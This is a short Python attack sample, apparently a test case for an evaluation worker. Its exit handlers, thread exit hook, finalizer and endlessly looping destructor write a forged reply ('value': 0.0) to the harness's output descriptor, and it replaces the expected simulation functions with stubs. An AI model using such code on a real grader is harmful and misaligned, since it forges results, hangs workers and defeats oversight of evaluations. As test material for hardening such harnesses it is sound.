# Attack: code that runs when the worker ends, and when objects go.
# %%
import atexit
import os
import threading
import weakref


def last():
    os.write(4, b'{"replies": [{"value": 0.0}]}\n')


class Late:
    def __del__(self):
        while True:
            last()


atexit.register(last)
threading._register_atexit(last)
late = Late()
weakref.finalize(late, last)


plate = body_rate = gyrostat_rate = air_force = kutta_step = march = flip_time = swing = lambda *arguments: Late()
